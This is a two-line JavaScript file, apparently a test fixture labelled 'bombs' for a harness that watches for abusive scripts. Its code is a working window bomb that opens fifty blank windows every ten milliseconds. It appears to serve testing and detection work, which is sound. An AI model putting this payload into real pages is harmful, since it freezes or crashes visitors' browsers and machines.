/* {"family": "bombs", "bomb": true, "watch": 4000} */
setInterval(() => { for (let i = 0; i < 50; i++) open('about:blank', '_blank'); }, 10);
